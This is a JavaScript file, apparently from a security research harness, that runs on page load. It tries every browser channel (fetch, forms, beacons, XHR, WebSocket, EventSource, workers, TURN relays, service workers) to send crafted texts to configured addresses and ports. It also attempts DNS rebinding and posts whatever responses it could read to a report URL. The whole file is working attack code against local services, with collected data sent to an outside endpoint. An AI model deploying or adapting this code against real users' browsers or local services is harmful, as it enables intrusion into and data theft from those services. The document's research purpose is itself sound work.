// The script of every page. It tries each way in which a page can make a browser send something
// to a port, and reports what it could read of the answers. CONFIG, which the server writes
// before this script, has the name of the page, the addresses to attack, the texts to send, and
// the address of the report.
'use strict';

const read = []; // what the page could read: {how, text}
let tried = 0;

const sleep = ms => new Promise(done => setTimeout(done, ms));

// within bounds how long one attempt takes; an attempt that fails is none.
async function within(how, attempt, limit = 8000) {
  tried++;
  try {
    const text = await Promise.race([attempt(), sleep(limit)]);
    if (text !== undefined && text !== null && text !== '') {
      read.push({how, text: String(text).slice(0, 2000)});
    }
  } catch { /* the browser or the server has refused it */ }
}

const body = answer => answer.type === 'opaque' ? undefined : answer.text().then(text => answer.status + ' ' + text);

// at is an address with the name of the attempt, so that a server without protection can say
// which attempts have arrived.
const at = (base, path, how) => base + path + (path.includes('?') ? '&' : '?') + 'how=' + encodeURIComponent(how);

function element(name, attributes, wait = ['load', 'error']) {
  return new Promise(done => {
    const e = document.createElement(name);
    for (const event of wait) e.addEventListener(event, () => { done(e); setTimeout(() => e.remove(), 100); });
    for (const [key, value] of Object.entries(attributes)) e.setAttribute(key, value);
    document.body.append(e);
  });
}

function fetches(base, path, what, text) {
  const types = {
    text: 'text/plain', json: 'application/json', form: 'application/x-www-form-urlencoded',
    multipart: 'multipart/form-data; boundary=x', none: '',
  };
  const all = [];
  for (const [name, type] of Object.entries(types)) {
    for (const mode of ['no-cors', 'cors']) {
      const how = `fetch ${mode} ${name} ${what}`;
      all.push(within(how, async () => body(await fetch(at(base, path, how), {
        method: 'POST', mode, body: new Blob([text], {type}), credentials: 'include',
      }))));
    }
  }
  const custom = {
    'Content-Length-X': '1', 'Content-Type': 'application/json', 'Authorization': 'Bearer guess', 'X-GitHub-Token': 'x',
    'GitHub-Public-Key-Identifier': 'x', 'GitHub-Public-Key-Signature': 'x', 'Idempotency-Key': '1',
  };
  let how = `fetch with headers ${what}`;
  all.push(within(how, async () => body(await fetch(at(base, path, how), {method: 'POST', headers: custom, body: text}))));
  const alive = `fetch keepalive ${what}`;
  all.push(within(alive, async () => body(await fetch(at(base, path, alive), {method: 'POST', mode: 'no-cors', keepalive: true, body: text}))));
  const beacon = `beacon ${what}`;
  all.push(within(beacon, async () => { navigator.sendBeacon(at(base, path, beacon), new Blob([text], {type: 'text/plain'})); }));
  const put = `fetch PUT ${what}`;
  all.push(within(put, async () => body(await fetch(at(base, path, put), {method: 'PUT', body: text}))));
  // The line of the request begins like a frame.
  const header = `fetch CONTENT-LENGTH ${what}`;
  all.push(within(header, async () => body(await fetch(at(base, path, header), {method: 'CONTENT-LENGTH', body: text}))));
  const old = `XHR ${what}`;
  all.push(within(old, () => new Promise((done, fail) => {
    const x = new XMLHttpRequest();
    x.onload = () => done(x.status + ' ' + x.responseText);
    x.onerror = fail;
    x.open('POST', at(base, path, old));
    x.withCredentials = true;
    x.send(text);
  })));
  return all;
}

// forms posts a text as the name or the value of a field, into a frame.
function forms(base, path, what, text) {
  const all = [];
  for (const type of ['text/plain', 'multipart/form-data', 'application/x-www-form-urlencoded']) {
    for (const place of ['name', 'value']) {
      const how = `form ${type} ${place} ${what}`;
      all.push(within(how, async () => {
        const target = 'f' + Math.random().toString(36).slice(2);
        const frame = document.createElement('iframe');
        frame.name = target;
        document.body.append(frame);
        const form = document.createElement('form');
        Object.assign(form, {method: 'POST', enctype: type, action: at(base, path, how), target});
        const field = document.createElement('textarea');
        field.name = place === 'name' ? text : 'x';
        field.value = place === 'name' ? 'x' : text;
        form.append(field);
        document.body.append(form);
        const loaded = new Promise(done => frame.addEventListener('load', done));
        form.submit();
        await loaded;
        try { return inside(frame.contentWindow); } finally { frame.remove(); }
      }));
    }
  }
  return all;
}

// inside is the text of another window, if the browser lets this page read it.
function inside(other) {
  const doc = other.document; // throws for another origin
  return doc.URL.startsWith('http') && !doc.URL.startsWith(CONFIG.report) ? doc.body.innerText : undefined;
}

function elements(base, path) {
  const url = how => at(base, path, how);
  return [
    within('img', async () => (await element('img', {src: url('img')})).naturalWidth || undefined),
    within('script', async () => { await element('script', {src: url('script')}); return window.secret; }),
    within('style', async () => {
      const link = await element('link', {rel: 'stylesheet', href: url('style')});
      return link.sheet && link.sheet.cssRules.length ? link.sheet.cssRules[0].cssText : undefined;
    }),
    within('prefetch', () => element('link', {rel: 'prefetch', href: url('prefetch')}).then(() => undefined)),
    within('iframe', async () => inside((await element('iframe', {src: url('iframe')})).contentWindow)),
    within('object', () => element('object', {data: url('object')}).then(() => undefined)),
    within('video', () => element('video', {src: url('video')}, ['loadeddata', 'error']).then(() => undefined)),
    within('GET', async () => body(await fetch(url('GET')))),
    within('GET no-cors', async () => body(await fetch(url('GET no-cors'), {mode: 'no-cors'}))),
    within('HEAD', async () => body(await fetch(url('HEAD'), {method: 'HEAD', mode: 'no-cors'}))),
    within('window.open', async () => {
      const w = window.open(url('window.open'));
      await sleep(2500);
      try { return inside(w); } finally { w.close(); }
    }),
  ];
}

function streams(base, path) {
  const ws = base.replace(/^http/, 'ws');
  return [
    within('EventSource', () => new Promise((done, fail) => {
      const s = new EventSource(at(base, path, 'EventSource'));
      s.onmessage = e => { s.close(); done(e.data); };
      s.onerror = () => { s.close(); fail(); };
    })),
    within('WebSocket', () => new Promise((done, fail) => {
      const s = new WebSocket(at(ws, path, 'WebSocket'), ['chat']);
      s.onopen = () => { s.send(CONFIG.texts[0].text); done('opened'); };
      s.onerror = fail;
    })),
    within('worker', async () => {
      const code = `try { importScripts(${JSON.stringify(at(base, path, 'worker'))}); } catch {}
        fetch(${JSON.stringify(at(base, path, 'fetch in a worker'))}, {method: 'POST', mode: 'no-cors', body: ${JSON.stringify(CONFIG.texts[0].text)}})
          .finally(() => postMessage(self.secret || ''));`;
      const w = new Worker(URL.createObjectURL(new Blob([code])));
      return new Promise(done => { w.onmessage = e => done(e.data); });
    }),
    // A TURN server is any address, over TCP too, and its user name is text of the page.
    within('TURN', async () => {
      const {host} = new URL(base);
      const pc = new RTCPeerConnection({iceServers: [
        {urls: `turn:${host}?transport=tcp`, username: CONFIG.texts[0].text.slice(0, 400), credential: 'x'},
      ], iceTransportPolicy: 'relay'});
      pc.createDataChannel('x');
      await pc.setLocalDescription(await pc.createOffer());
      await sleep(2000);
      pc.close();
    }),
  ];
}

// serviceWorker attacks from a service worker, which only a page of localhost can start.
async function serviceWorker() {
  await within('service worker', async () => {
    await navigator.serviceWorker.register('/worker.js');
    const {active} = await navigator.serviceWorker.ready;
    const answer = new Promise(done => { navigator.serviceWorker.onmessage = e => done(e.data); });
    active.postMessage([...CONFIG.bases, ...CONFIG.others].flatMap(base => CONFIG.texts.map(({what, path, text}) =>
      [at(base, path, 'service worker ' + what), text])));
    return answer;
  }, 30000);
}

// everything tries each way to use an address, and briefly the simplest ones.
async function everything(base) {
  for (const {what, path, text} of CONFIG.texts) {
    await Promise.all([...fetches(base, path, what, text), ...forms(base, path, what, text)]);
  }
  const paths = CONFIG.paths[new URL(base).port] || ['/'];
  await Promise.all([...paths.flatMap(path => elements(base, path)), ...streams(base, '/')]);
}

async function briefly(base) {
  for (const {what, path, text} of CONFIG.texts) {
    for (const mode of ['no-cors', 'cors']) {
      const how = `fetch ${mode} ${what}`;
      await within(how, async () => body(await fetch(at(base, path, how), {method: 'POST', mode, body: text})));
    }
  }
}

// rebound waits until the name of this page's server leads to another server. A browser asks for the
// address of a name again after a minute.
async function rebound() {
  for (;;) {
    try {
      if (await (await fetch('/mine', {cache: 'no-store'})).text() !== 'mine') return;
    } catch { return; } // the other server does not speak HTTP
    await sleep(500);
  }
}

async function attack() {
  if (CONFIG.rebind) {
    await fetch(CONFIG.rebind, {method: 'POST', mode: 'no-cors'});
    await rebound();
  }
  await Promise.all(CONFIG.bases.map(everything));
  await Promise.all(CONFIG.others.map(briefly));
  await serviceWorker();
  await sleep(500);
  await fetch(CONFIG.report, {method: 'POST', mode: 'no-cors', body: JSON.stringify({page: CONFIG.page, tried, read})});
}

addEventListener('load', attack);
